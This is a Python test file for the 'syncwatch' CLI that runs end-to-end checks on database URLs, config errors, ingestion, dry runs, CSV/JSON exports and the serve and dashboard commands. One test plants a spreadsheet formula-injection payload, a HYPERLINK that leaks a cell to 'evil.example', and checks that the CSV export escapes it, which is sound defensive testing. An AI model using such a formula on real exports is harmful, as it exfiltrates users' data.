"""The `syncwatch` command as a user runs it: a real process, real databases, real files."""

from __future__ import annotations

import gzip
import json
import os
import re
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest
from cli_support import syncwatch

from syncwatch.commands import COMMANDS
from syncwatch.commands.bench import benchmarks
from syncwatch.sim.ports import free_port_run
from syncwatch.store.schema import COUNTED_TABLES

FIXTURES = Path(__file__).parent / "fixtures"


def assert_one_clear_sentence(result: subprocess.CompletedProcess, *fragments: str) -> None:
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    for fragment in fragments:
        assert fragment in lines[0]


def test_upgrade_then_stats_prints_zero_counts(db_url: str) -> None:
    assert syncwatch("db", "upgrade", "--db", db_url).returncode == 0
    result = syncwatch("stats", "--json", "--db", db_url)
    assert result.returncode == 0, result.stderr
    empty = {**dict.fromkeys(COUNTED_TABLES, 0), "redeliveries": 0, "quarantined_by": [], "unlinked_by": []}
    assert json.loads(result.stdout) == {**empty, "correlation_backlog": 0, "waiting_since": None}


def test_stats_count_re_deliveries_and_say_where_quarantined_items_came_from_and_why(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'stats.db'}"
    log = tmp_path / "gateway.log"
    good = (
        '10.0.0.1 - - [25/Nov/2026:10:00:0{n} +0000] "GET /orders/113-000000{n}-0000001 HTTP/1.1" 200 5 "-" "t" 0.01\n'
    )
    health = '10.0.0.1 - - [25/Nov/2026:10:00:03 +0000] "GET /healthz HTTP/1.1" 200 2 "-" "t" 0.001\n'
    log.write_text(good.format(n=1) + "not an access log line\n" + good.format(n=2) + health)
    assert syncwatch("db", "upgrade", "--db", db).returncode == 0
    for _ in range(2):
        assert syncwatch("ingest", "--db", db, str(log)).returncode == 0
    figures = json.loads(syncwatch("stats", "--json", "--db", db).stdout)
    assert (figures["observations"], figures["redeliveries"]) == (3, 3)
    [reason] = figures["quarantined_by"]
    assert reason["source"] == str(log) and (reason["items"], reason["deliveries"]) == (1, 2)
    assert figures["quarantine"] == 1, "the bad line imported twice is one quarantined item"
    text = syncwatch("stats", "--db", db).stdout
    assert "re-deliveries stored once: 3" in text
    assert "correlation: 3 observations received since " in text and figures["correlation_backlog"] == 3
    assert figures["unlinked_by"] == [], "what the correlator has not read is not called unlinked"
    assert syncwatch("correlate", "--db", db).returncode == 0
    after = syncwatch("stats", "--db", db).stdout
    assert "correlation: up to date: every observation was read" in after
    assert "         1 of 1  gateway log lines GET /healthz\n" in after, "the line naming no order links nothing"
    assert "GET /orders" not in after
    assert f"         1  {log}: {reason['reason']} (rejected 2 times)" in text


def test_the_database_url_comes_from_the_environment_when_no_flag_is_given(tmp_path: Path) -> None:
    env = {"SYNCWATCH_DB": f"sqlite:///{tmp_path / 'from-env.db'}"}
    assert syncwatch("db", "upgrade", env=env).returncode == 0
    assert (tmp_path / "from-env.db").exists()


def test_the_default_database_is_a_file_in_the_working_directory(tmp_path: Path) -> None:
    assert syncwatch("db", "upgrade", cwd=tmp_path).returncode == 0
    assert (tmp_path / "syncwatch.db").exists()


def test_an_unreachable_server_gets_one_sentence() -> None:
    result = syncwatch("stats", "--db", "postgresql://nobody@127.0.0.1:9/none")
    assert_one_clear_sentence(
        result, "cannot open the database postgresql://nobody@127.0.0.1:9/none", "Connection refused"
    )


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://admin:s3cret-pw@127.0.0.1:9/none",
        "postgresql://admin@127.0.0.1:9/none?password=s3cret-pw",
        "postgresql://admin:s3cret-pw@127.0.0.1:notaport/none?sslpassword=s3cret-pw",
    ],
)
def test_a_password_in_the_url_is_never_printed(url: str) -> None:
    result = syncwatch("stats", "--db", url)
    assert result.returncode == 1 and "s3cret-pw" not in result.stderr + result.stdout
    assert "***" in result.stderr


@pytest.mark.parametrize(
    ("url", "fragment"),
    [
        ("mysql://root@localhost/db", "'mysql' databases are not supported"),
        ("postgresql://host:notaport/db", "is not a database URL"),
        ("sqlite:///no/such/folder/x.db", "there is no database file at no/such/folder/x.db"),
        ("sqlite://relative.db", "names a host, which a SQLite file has not: write sqlite:///PATH"),
        ("review_ops", "'review_ops' is not a database URL: for a SQLite file write sqlite:///review_ops"),
        (f"sqlite:///{'x' * 300}/a.db", "cannot look for the database file xxx"),
        ("postgres://root@127.0.0.1:1/db", "root@127.0.0.1:1"),  # read as postgresql://, then refused to connect
    ],
)
def test_a_wrong_database_url_gets_one_sentence(url: str, fragment: str) -> None:
    assert_one_clear_sentence(syncwatch("stats", "--db", url), fragment)


def test_stats_on_an_empty_database_says_to_upgrade(tmp_path: Path) -> None:
    (tmp_path / "empty.db").touch()
    result = syncwatch("stats", "--db", f"sqlite:///{tmp_path / 'empty.db'}")
    assert_one_clear_sentence(result, "no syncwatch schema yet", "syncwatch db upgrade")


@pytest.mark.parametrize(
    ("content", "fragments"),
    [
        ("[settings\nport = 1", ("not valid TOML",)),
        ('[settings]\nport = "four"', ("settings.port", "expected a whole number", "'four'")),
        ("[settings]\nprot = 1", ("settings.prot", "unknown setting")),
        ("[partners.erp]\nkind = 'erp'\nbase_url = 'ftp://x'", ("partners.erp.base_url",)),
        ("[partners.erp]\nkind = 'erp'\nbase_url = 'http://x'\ntoken = 'abc'", ("partners.erp.token", "unknown field")),
        (
            "[processes.order]\nstarts_with = ['po_number']\n[[processes.order.stages]]\nname = 'a'\n"
            "match = [{ system = 'erp' }]\nsla = 'soon'",
            ('processes.order.stages #1 (name = "a"', "), sla: expected a duration"),
        ),
    ],
)
def test_a_broken_config_names_file_and_field_and_exits_2(tmp_path: Path, content: str, fragments: tuple) -> None:
    config = tmp_path / "syncwatch.toml"
    config.write_text(content)
    result = syncwatch("stats", "--config", str(config), "--db", f"sqlite:///{tmp_path / 'x.db'}")
    assert_one_clear_sentence(result, str(config), *fragments)
    assert result.returncode == 2


def test_a_missing_config_file_is_named(tmp_path: Path) -> None:
    result = syncwatch("stats", "--config", str(tmp_path / "nope.toml"))
    assert_one_clear_sentence(result, "nope.toml: no such config file")
    assert result.returncode == 2


@pytest.mark.parametrize(
    "command", ["db upgrade", "db schema", *(c.name for c in COMMANDS), *(f"bench {name}" for name in benchmarks())]
)
def test_every_command_has_help(command: str) -> None:
    result = syncwatch(*command.split(), "--help")
    assert result.returncode == 0
    assert result.stdout.startswith("usage: syncwatch")


def test_bench_store_prints_figures_with_units_as_json(tmp_path: Path) -> None:
    result = syncwatch("bench", "store", "--observations", "2000", "--batch", "500", "--json")
    assert result.returncode == 0, result.stderr
    figures = json.loads(result.stdout)
    assert figures["observations"] == 2000
    assert figures["observations_per_s"] > 0 and figures["batch_p95_ms"] > 0


def test_bench_ingest_runs_a_real_serve_and_reports_the_ratio() -> None:
    result = syncwatch("bench", "ingest", "--spans", "2000", "--lines", "500", "--events", "500", "--json")
    assert result.returncode == 0, result.stderr
    figures = json.loads(result.stdout)
    assert figures["spans"] == 2000
    assert figures["otlp_protobuf_spans_per_s"] > 0 and figures["bare_limit_spans_per_s"] > 0
    assert figures["protobuf_to_bare_ratio"] > 0 and figures["log_lines_per_s"] > 0 and figures["events_per_s"] > 0
    assert figures["protobuf_server_cpu_us_per_span"] > 0 and figures["protobuf_parse_cpu_us_per_span"] > 0


def test_bench_actions_resolves_every_retry_within_the_rate_limit() -> None:
    result = syncwatch("bench", "actions", "--single", "5", "--bulk", "30", "--json")
    assert result.returncode == 0, result.stderr
    figures = json.loads(result.stdout)
    assert figures["single_resolved"] == 5 and figures["bulk_resolved"] == 30
    assert figures["bulk_partner_peak_per_s"] <= figures["rate_limit_per_s"]


def test_bench_dashboard_renders_every_page_without_streamlit_noise() -> None:
    result = syncwatch("bench", "dashboard", "--transactions", "600", "--runs", "1", "--json")
    assert result.returncode == 0, result.stderr
    figures = json.loads(result.stdout)
    assert figures["transactions"] == 600
    assert all(figures[f"{page}_p95_ms"] > 0 for page in ("operations", "exception_detail", "kpis", "admin"))
    assert "ScriptRunContext" not in result.stderr, result.stderr


def test_bench_correlate_times_a_full_pass_an_incremental_one_and_retention() -> None:
    result = syncwatch("bench", "correlate", "--orders", "350", "--incremental", "100", "--json")
    assert result.returncode == 0, result.stderr
    figures = json.loads(result.stdout)
    assert figures["observations"] > 350 * 10 and figures["incremental_observations"] == 100
    steps = [figures[f"{step}_s"] for step in ("reading", "linking", "deriving", "saving")]
    # Each figure is rounded to 10 ms, and the last step ends just after the pass's time is taken.
    assert all(s >= 0 for s in steps) and sum(steps) <= figures["from_empty_s"] + 0.05, "the pass's steps, within it"
    assert 0 < figures["pruned_transactions"] < figures["transactions"], "half the week goes, not all of it"
    assert figures["pruned_observations"] > 0 and figures["prune_half_s"] >= 0


def test_export_quarantine_lists_each_rejected_input_once_with_its_deliveries(tmp_path: Path) -> None:
    """What a lead sends a partner: where in its file each rejected input is and why, no bytes."""
    db = f"sqlite:///{tmp_path / 'q.db'}"
    log = tmp_path / "partner.log"
    log.write_text("status from jane.doe@example.com\n")
    assert syncwatch("db", "upgrade", "--db", db).returncode == 0
    for _ in range(2):
        syncwatch("ingest", "--db", db, str(log))
    result = syncwatch("export", "quarantine", "--db", db)
    assert result.returncode == 0 and result.stderr == "exported 1 quarantined input\n"
    [item] = [json.loads(line) for line in result.stdout.splitlines()]
    assert (item["source"], item["position"], item["deliveries"]) == (str(log), "offset 0", 2)
    assert item["reason"] == "line is not in the combined log format" and "raw" not in item
    assert item["last_received_at"] > item["received_at"]


def test_export_transactions_as_json_lines_holds_keys_stages_and_sla(sample_db: str, tmp_path: Path) -> None:
    out = tmp_path / "transactions.jsonl"
    result = syncwatch("export", "transactions", "--db", sample_db, "--out", str(out))
    assert result.returncode == 0, result.stderr
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert result.stderr.strip().endswith(f"exported {len(rows):,} transactions")
    orders = [r for r in rows if r["type"] == "order"]
    assert len(orders) >= 800 and len({r["id"] for r in rows}) == len(rows)
    first = orders[0]
    assert first["sla_state"] in ("met", "on_track", "at_risk", "breached")
    assert {"erp_order"} <= set(first["keys"]) and "trace" not in first["keys"]
    reached = [s for s in first["stages"] if s["reached_at"]]
    assert reached and {"name", "reached_at", "due_at", "sla_state"} <= set(reached[0])
    assert first["started_at"] <= first["last_seen_at"] and first["observation_count"] > 0, "volumes and lead times"
    assert {"current_stage", "customer", "order_value", "promised_at"} <= set(first)


def test_export_exceptions_as_csv_names_transaction_category_and_status(sample_db: str, tmp_path: Path) -> None:
    import csv

    out = tmp_path / "exceptions.csv"
    assert syncwatch("export", "exceptions", "--db", sample_db, "--format", "csv", "--out", str(out)).returncode == 0
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) > 20
    assert all(r["id"] and r["transaction_id"] and r["category"] and r["status"] for r in rows)
    assert {r["category"] for r in rows} >= {"validation", "partner_unavailable"}
    assert {r["channel"] for r in rows} >= {"marketplace-amz", "marketplace-b2b"}, "the order's context, flattened"


def test_a_csv_export_opens_a_partners_formula_as_text(sample_db: str, tmp_path: Path) -> None:
    """A customer id '=HYPERLINK(…)' and a span named '=2+3' ran as formulas in a spreadsheet."""
    import csv
    import sqlite3

    path = tmp_path / "copy.db"
    with sqlite3.connect(sample_db.removeprefix("sqlite:///")) as source, sqlite3.connect(path) as copy:
        source.backup(copy)
    sample_copy = f"sqlite:///{path}"
    link = '=HYPERLINK("https://evil.example/?leak="&A2,"C-1687")'
    with sqlite3.connect(path) as conn:
        conn.execute("UPDATE transactions SET customer = ?, order_value = '-12.50'", (link,))
        conn.execute("UPDATE exceptions SET summary = '=2+3', endpoint = '-1+1'")
    for what, column, expected in (("transactions", "customer", "'" + link), ("exceptions", "summary", "'=2+3")):
        out = tmp_path / f"{what}.csv"
        assert syncwatch("export", what, "--db", sample_copy, "--format", "csv", "--out", str(out)).returncode == 0
        with out.open(newline="") as handle:
            rows = list(csv.DictReader(handle))
        assert rows and {row[column] for row in rows} == {expected}, (what, rows[0])
    assert {row["endpoint"] for row in rows} == {"'-1+1"}
    with (tmp_path / "transactions.csv").open(newline="") as handle:
        values = {row["order_value"] for row in csv.DictReader(handle)}
    assert values == {"-12.50"}, "a credit is a number, no formula: it stays one"


def test_exported_times_have_one_format_that_pandas_reads(sample_db: str, tmp_path: Path) -> None:
    """A time on a whole second lost its microseconds: the column had two formats and pandas refused it."""
    import pandas as pd

    out = tmp_path / "transactions.jsonl"
    assert syncwatch("export", "transactions", "--db", sample_db, "--out", str(out)).returncode == 0
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    times = [r["due_at"] for r in rows if r["due_at"]] + [
        s[k] for r in rows for s in r["stages"] for k in ("reached_at", "due_at") if s[k]
    ]
    assert times and all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}\+00:00", t) for t in times)
    assert pd.to_datetime(pd.Series(times)).notna().all()


def test_an_empty_csv_export_still_names_its_columns(tmp_path: Path) -> None:
    """A 0-byte file made pandas fail: 'No columns to parse from file'."""
    import csv

    db = f"sqlite:///{tmp_path / 'empty.db'}"
    assert syncwatch("db", "upgrade", "--db", db).returncode == 0
    for what in ("transactions", "exceptions", "quarantine"):
        out = tmp_path / f"{what}.csv"
        assert syncwatch("export", what, "--db", db, "--format", "csv", "--out", str(out)).returncode == 0
        with out.open(newline="") as handle:
            header = next(csv.reader(handle))
        assert header[0] == "id" and len(header) > 5, (what, header)


def test_export_to_a_folder_that_does_not_exist_gets_one_sentence(sample_db: str, tmp_path: Path) -> None:
    target = tmp_path / "missing" / "x.csv"
    result = syncwatch("export", "exceptions", "--db", sample_db, "--out", str(target))
    assert_one_clear_sentence(result, f"cannot write {target}", "No such file or directory")


def test_correlate_says_what_it_did_then_that_nothing_is_new(tmp_path: Path) -> None:
    sample = Path(__file__).resolve().parents[1] / "sample_data"
    files = sorted(str(p) for p in sample.rglob("*") if p.suffix in (".jsonl", ".log") and p.stem != "ground_truth")
    db = f"sqlite:///{tmp_path / 'correlate.db'}"
    assert syncwatch("db", "upgrade", "--db", db).returncode == 0
    assert syncwatch("ingest", "--db", db, *files).returncode == 0
    first = syncwatch("correlate", "--db", db, "--now", "2026-11-08T23:59:00Z")
    assert first.returncode == 0, first.stderr
    assert first.stderr == "", "piped, a pass shows no progress"
    assert re.fullmatch(
        r"correlated [\d,]+ new observations in [\d.]+ s: [\d,]+ transactions recomputed, "
        r"[\d,]+ exceptions derived, [\d,]+ alerts raised\n",
        first.stdout,
    ), first.stdout
    again = syncwatch("correlate", "--db", db, "--now", "2026-11-08T23:59:00Z", "--json")
    summary = json.loads(again.stdout)
    assert (summary["observations"], summary["transactions"], summary["busy"]) == (0, 0, False)
    assert summary["sla_reevaluated"] == 0
    # Time alone moves SLAs: a batch run days later turns orders past their due late, as serve does.
    later = syncwatch("correlate", "--db", db, "--now", "2026-11-12T00:00:00Z")
    assert re.fullmatch(
        r"[\d,]+ transactions re-evaluated as time passed \(SLA due times reached\): "
        r"[\d,]+ exceptions? derived, [\d,]+ alerts? raised\n",
        later.stdout,
    ), later.stdout
    with sqlite3.connect(db.removeprefix("sqlite:///")) as conn:
        (stale,) = conn.execute(
            "SELECT count(*) FROM transactions WHERE status = 'open' AND sla_state IN ('on_track', 'at_risk') "
            "AND due_at < '2026-11-12'"
        ).fetchone()
    assert stale == 0, "no open order past its due still reads on track"
    settled = syncwatch("correlate", "--db", db, "--now", "2026-11-12T00:00:00Z")
    assert settled.stdout.startswith("nothing new to correlate"), settled.stdout


def test_correlate_on_a_terminal_shows_each_step_of_the_pass_as_it_goes(tmp_path: Path) -> None:
    """A person waiting for a week's backlog sees the pass move, one line per step, in order; the
    summary still comes alone on stdout."""
    import pty
    import select

    sample = Path(__file__).resolve().parents[1] / "sample_data"
    files = sorted(str(p) for p in sample.rglob("*") if p.suffix in (".jsonl", ".log") and p.stem != "ground_truth")
    db = f"sqlite:///{tmp_path / 'watched.db'}"
    assert syncwatch("db", "upgrade", "--db", db).returncode == 0
    assert syncwatch("ingest", "--db", db, *files).returncode == 0
    terminal, its_end = pty.openpty()
    clean = {k: v for k, v in os.environ.items() if not k.startswith("SYNCWATCH_")}
    command = [sys.executable, "-m", "syncwatch", "correlate", "--db", db, "--now", "2026-11-08T23:59:00Z"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=its_end, env=clean, text=True) as process:
        os.close(its_end)
        shown, deadline = b"", time.monotonic() + 120
        while time.monotonic() < deadline:
            if not select.select([terminal], [], [], 1)[0]:
                continue
            try:
                chunk = os.read(terminal, 4096)
            except OSError:  # the pass ended and closed the terminal's other end
                break
            if not chunk:
                break
            shown += chunk
        else:
            process.kill()
            raise AssertionError(f"syncwatch correlate did not end within 120 s; it showed {shown!r}")
        summary = process.stdout.read() if process.stdout else ""
    os.close(terminal)
    assert process.returncode == 0, shown
    lines = [line.split("\r")[-1] for line in shown.decode().replace("\r\n", "\n").split("\n") if line]
    assert [re.sub(r"\d[\d,]*", "N", line) for line in lines] == [
        "reading the new observations: N%",
        "linking N observations into transactions…",
        "deriving N transactions: N%",
        "saving the exceptions and alerts found, then committing…",
    ], lines
    assert lines[0].endswith(": 100%") and lines[2].endswith(": 100%"), lines
    assert summary.startswith("correlated "), summary


def test_ingest_of_a_file_in_another_format_suggests_naming_it(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'wrong.db'}"
    notes = tmp_path / "notes.txt"
    notes.write_text("call the carrier on monday\nask about the pallet\n")
    assert syncwatch("db", "upgrade", "--db", db).returncode == 0
    result = syncwatch("ingest", "--db", db, str(notes))
    assert result.returncode == 1 and "0 stored, 0 duplicates, 2 quarantined" in result.stdout
    assert f"nothing in {notes} was understood as combined" in result.stderr and "--format (" in result.stderr
    good = tmp_path / "good.log"
    good.write_text('10.0.0.1 - - [25/Nov/2026:10:00:00 +0000] "GET /healthz HTTP/1.1" 200 5 "-" "t" 0.01\nbad\n')
    assert "was understood" not in syncwatch("ingest", "--db", db, str(good)).stderr, "a partly good file needs no hint"
    again = syncwatch("ingest", "--db", db, str(good))
    assert again.returncode == 0 and "0 stored, 1 duplicate, 1 quarantined" in again.stdout


def test_ingest_of_an_empty_file_says_so_instead_of_guessing_its_format(tmp_path: Path) -> None:
    """A quiet hour's events file read as '(combined): 0 stored', a format it never had."""
    db = f"sqlite:///{tmp_path / 'empty.db'}"
    quiet = tmp_path / "events-0300.jsonl"
    quiet.write_text("")
    assert syncwatch("db", "upgrade", "--db", db).returncode == 0
    result = syncwatch("ingest", "--db", db, str(quiet))
    assert result.returncode == 0 and f"{quiet}: empty, nothing to import" in result.stdout
    assert "combined" not in result.stdout + result.stderr


def test_ingest_refuses_a_compressed_file_before_storing_anything(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'gz.db'}"
    log = tmp_path / "access.log.gz"
    log.write_bytes(gzip.compress(b'10.0.0.1 - - [25/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "t" 0.01\n'))
    assert syncwatch("db", "upgrade", "--db", db).returncode == 0
    result = syncwatch("ingest", "--db", db, str(log))
    assert result.returncode == 2 and f"{log} is gzip-compressed; decompress it first" in result.stderr
    assert result.stdout == ""  # refused before anything was read into the store


def test_ingest_flags_name_the_format_of_a_file_a_tailer_also_reads(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'flags.db'}"
    events = tmp_path / "events.jsonl"
    events.write_text(json.dumps({"specversion": "1.0", "id": "e-1", "source": "wms", "type": "t"}) + "\n")
    config = tmp_path / "syncwatch.toml"
    config.write_text(f'[[tailers]]\npath = "{events}"\nformat = "combined"\n')
    assert syncwatch("db", "upgrade", "--db", db).returncode == 0
    result = syncwatch("ingest", "--db", db, "--config", str(config), "--format", "cloudevents", str(events))
    assert result.returncode == 0 and f"{events} (cloudevents): 1 stored" in result.stdout


def test_a_dry_run_shows_which_endpoints_link_to_nothing_and_stores_nothing(tmp_path: Path) -> None:
    """Onboarding a partner: before any traffic is stored, which of its calls would reach no order."""
    log = tmp_path / "partner.log"
    line = '10.0.0.1 - - [25/Nov/2026:10:00:0{n} +0000] "{request} HTTP/1.1" 200 5 "-" "t" 0.01\n'
    requests = ["GET /orders/113-1234567-1234567", "GET /healthz", "GET /healthz", "POST /v2/orders/abc123"]
    log.write_text("".join(line.format(n=n, request=r) for n, r in enumerate(requests)) + "not an access log line\n")
    span = {
        "name": "step",
        "kind": 2,
        "startTimeUnixNano": "1764064800000000000",
        "endTimeUnixNano": "1764064801000000000",
    }
    keyed = {
        **span,
        "traceId": "a" * 32,
        "spanId": "1" * 16,
        "attributes": [{"key": "erp.sales_order", "value": {"stringValue": "SO-1"}}],
    }
    resource = {"attributes": [{"key": "service.name", "value": {"stringValue": "erp"}}]}
    spans = [
        keyed,
        {**span, "traceId": "a" * 32, "spanId": "2" * 16},
        {**span, "traceId": "b" * 32, "spanId": "3" * 16},
    ]
    traces = tmp_path / "traces.jsonl"
    traces.write_text(json.dumps({"resourceSpans": [{"resource": resource, "scopeSpans": [{"spans": spans}]}]}) + "\n")
    db = tmp_path / "never.db"
    result = syncwatch("ingest", "--dry-run", "--db", f"sqlite:///{db}", str(log), str(traces))
    assert result.returncode == 0, result.stderr
    assert not db.exists(), "a dry run needs no database and makes none"
    assert f"{log} (combined): 4 observations, 1 rejected" in result.stdout
    assert "  identity keys: marketplace_order on 1\n" in result.stdout
    assert "3 link to nothing (no identity key, no such trace in this file):" in result.stdout
    assert "           2  gateway GET /healthz\n           1  gateway POST /v2/orders/abc123\n" in result.stdout
    assert "line is not in the combined log format (first at offset " in result.stdout
    assert result.stdout.endswith("nothing was stored (--dry-run)\n")
    figures = json.loads(syncwatch("ingest", "--dry-run", "--json", str(log), str(traces)).stdout)["files"][str(traces)]
    assert figures["identity_keys"] == {"erp_order": 1}
    assert (figures["observations"], figures["linked"], figures["unlinked"]) == (3, 2, {"erp step": 1}), (
        "the keyless span in the keyed trace links through it; the one alone does not"
    )
    assert figures["unfollowed_keys"] == []
    garbage = tmp_path / "garbage.log"
    garbage.write_text("not a log line\nnor this\n")
    refused = syncwatch("ingest", "--dry-run", "--format", "combined", str(garbage))
    assert refused.returncode == 1 and "0 observations, 2 rejected" in refused.stdout, (
        "nothing understood: fails as an import"
    )


def test_a_dry_run_masks_an_email_in_a_path_that_links_to_nothing(tmp_path: Path) -> None:
    log = tmp_path / "partner.log"
    log.write_text(
        '10.0.0.1 - - [25/Nov/2026:10:00:00 +0000] "GET /customers/jane.doe@example.com HTTP/1.1" 200 5 "-" "t" 0.01\n'
    )
    result = syncwatch("ingest", "--dry-run", str(log))
    assert result.returncode == 0 and "jane.doe" not in result.stdout and "example.com" not in result.stdout
    assert "  gateway GET /customers/j•••@•••" in result.stdout, result.stdout


def test_a_dry_run_names_a_key_type_no_process_follows(tmp_path: Path) -> None:
    """A partner's own key type, declared and extracted but in no process, linked nothing in silence
    while the dry run counted its observations as linked."""
    config = tmp_path / "syncwatch.toml"
    config.write_text(
        "[key_types.ff_shipment]\nlabel = 'FastFreight shipment'\n\n"
        "[[key_rules]]\npath_template = '/ff/shipments/{ff_shipment}'\n"
    )
    log = tmp_path / "ff.log"
    log.write_text('10.0.0.1 - - [25/Nov/2026:10:00:00 +0000] "GET /ff/shipments/FF-1 HTTP/1.1" 200 5 "-" "t" 0.01\n')
    result = syncwatch("ingest", "--dry-run", "--config", str(config), str(log))
    assert result.returncode == 0, result.stderr
    assert "  no process follows ff_shipment: such a key links nothing until it is in a [processes.NAME]" in (
        result.stdout
    )
    assert "0 link to a transaction" in result.stdout and "1 link to nothing" in result.stdout


def test_a_value_not_of_its_key_types_shape_links_nothing_and_the_dry_run_says_so(tmp_path: Path) -> None:
    """A marketplace sent its order's display name ("#1001") where its number goes: taken as the order's
    number, it would start an order of its own."""
    spans = [
        {
            "traceId": f"{n}" * 32,
            "spanId": f"{n}" * 16,
            "name": "POST /orders",
            "kind": 2,
            "startTimeUnixNano": "1764064800000000000",
            "endTimeUnixNano": "1764064801000000000",
            "attributes": [{"key": "amz.order_id", "value": {"stringValue": value}}],
        }
        for n, value in ((1, "113-1234567-1234567"), (2, "#1001"))
    ]
    resource = {"attributes": [{"key": "service.name", "value": {"stringValue": "marketplace-amz"}}]}
    traces = tmp_path / "traces.jsonl"
    traces.write_text(json.dumps({"resourceSpans": [{"resource": resource, "scopeSpans": [{"spans": spans}]}]}) + "\n")
    result = syncwatch("ingest", "--dry-run", str(traces))
    assert result.returncode == 0, result.stderr
    assert (
        "  marketplace_order: 1 value not of its [key_types] pattern, such as '#1001': kept as descriptive, "
        "linking nothing\n" in result.stdout
    )
    assert "  identity keys: marketplace_order on 1\n" in result.stdout
    db = f"sqlite:///{tmp_path / 'shape.db'}"
    assert syncwatch("db", "upgrade", "--db", db).returncode == 0
    assert syncwatch("ingest", "--db", db, str(traces)).returncode == 0
    assert syncwatch("correlate", "--db", db).returncode == 0
    exported = syncwatch("export", "transactions", "--db", db, "--format", "jsonl").stdout.splitlines()
    assert [json.loads(line)["id"] for line in exported] == ["order:113-1234567-1234567"]


def test_a_dry_run_reads_a_partners_webhook_sample_with_the_headers_it_comes_with(tmp_path: Path) -> None:
    """The promised check of a partner's sample against the key rules took no webhook body: 'not an
    OTLP JSON document'. Shopify's public order fixture, as its orders/create webhook posts it."""
    order = json.loads((FIXTURES / "commerce" / "shopifypy_order.json").read_text())["order"]
    sample = tmp_path / "order.json"
    sample.write_text(json.dumps(order, indent=2))
    bare = syncwatch("ingest", "--dry-run", "--webhook", "shopify", str(sample))
    assert bare.returncode == 1, "nothing understood fails, as an import would"
    assert "1  webhook shopify: no id at header:X-Shopify-Webhook-Id, header:X-Shopify-Event-Id" in bare.stdout
    headers = ["--header", "X-Shopify-Topic: orders/create", "--header", "x-shopify-webhook-id: w-1"]
    read = syncwatch("ingest", "--dry-run", "--webhook", "shopify", *headers, str(sample))
    assert read.returncode == 0, read.stderr
    assert (
        f"{sample} (webhook shopify): 1 observation, 0 rejected\n  identity keys: shopify_order on 1\n" in read.stdout
    )
    unknown = syncwatch("ingest", "--dry-run", "--webhook", "shopfy", str(sample))
    assert (
        unknown.returncode == 2
        and "names no [webhooks.NAME] in the config (configured: amazon-sp-api, shopify)" in (unknown.stderr)
    )
    stored = syncwatch("ingest", "--webhook", "shopify", str(sample))
    assert stored.returncode == 2 and "check samples with --dry-run" in stored.stderr
    alone = syncwatch("ingest", "--dry-run", "--header", "X-Shopify-Topic: orders/create", str(sample))
    assert alone.returncode == 2 and "--header goes with --webhook NAME" in alone.stderr
    typo = syncwatch(
        "ingest", "--dry-run", "--webhook", "shopify", "--header", "Authorization=Bearer s3cret", str(sample)
    )
    assert typo.returncode == 2 and "--header 'Authorization'… is not 'NAME: VALUE'" in typo.stderr
    assert "s3cret" not in typo.stderr, "a token typed with '=' is not echoed"


def test_serve_on_a_port_in_use_says_so_and_runs_no_job(tmp_path: Path) -> None:
    """A second serve on a taken port ran its scheduled jobs (automatic retries sent to partners,
    alert delivery) before uvicorn found the port taken, on every restart a supervisor made."""
    import socket

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        done = syncwatch("serve", "--port", str(port), "--db", f"sqlite:///{tmp_path / 'taken.db'}")
    assert_one_clear_sentence(done, f"syncwatch serve: cannot listen on 127.0.0.1:{port}: Address already in use")
    assert done.returncode == 1, "one line on stderr: no job logged a thing"


def test_serve_whose_token_variable_is_unset_does_not_start(tmp_path: Path) -> None:
    """It started with a warning and refused every request of that sender, 401 after 401."""
    config = tmp_path / "syncwatch.toml"
    config.write_text('[sources.erp]\ntoken_env = "SYNCWATCH_TEST_UNSET_TOKEN"\n')
    done = syncwatch("serve", "--config", str(config), "--db", f"sqlite:///{tmp_path / 'unset.db'}", "--port", "1")
    assert_one_clear_sentence(
        done, "[sources.erp] token_env names SYNCWATCH_TEST_UNSET_TOKEN, which is not set in this environment"
    )
    assert done.returncode == 2


@pytest.mark.parametrize("argv", [["serve", "--port", "99999"], ["demo", "--dashboard-port", "70000"]])
def test_a_port_out_of_range_is_refused_before_anything_starts(argv: list[str]) -> None:
    """The operating system would take 99999 modulo 65536 and listen where nobody looks."""
    done = syncwatch(*argv)
    assert done.returncode == 2, done.stdout + done.stderr
    assert re.search(r"expected (a port from )?1 to 65535, got '?(99999|70000)", done.stderr), done.stderr


def test_a_plain_kill_of_the_dashboard_command_stops_streamlit_too(tmp_path: Path) -> None:
    """`kill` of `syncwatch dashboard` left Streamlit serving on the port with no parent."""
    port = free_port_run(1)
    env = {k: v for k, v in os.environ.items() if not k.startswith("SYNCWATCH_")}
    db = f"sqlite:///{tmp_path / 'd.db'}"
    argv = [sys.executable, "-m", "syncwatch", "dashboard", "--port", str(port), "--db", db]
    process = subprocess.Popen(argv, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while not _answers(port):
            assert process.poll() is None and time.monotonic() < deadline, "the dashboard did not start"
            time.sleep(0.3)
        process.terminate()
        assert process.wait(timeout=30) is not None
        deadline = time.monotonic() + 10
        while _answers(port) and time.monotonic() < deadline:
            time.sleep(0.3)
        assert not _answers(port), "Streamlit still serves after its command was stopped"
    finally:
        process.kill()
        process.wait()


def _answers(port: int) -> bool:
    try:
        return httpx.get(f"http://127.0.0.1:{port}/_stcore/health", timeout=2).status_code == 200
    except httpx.HTTPError:
        return False
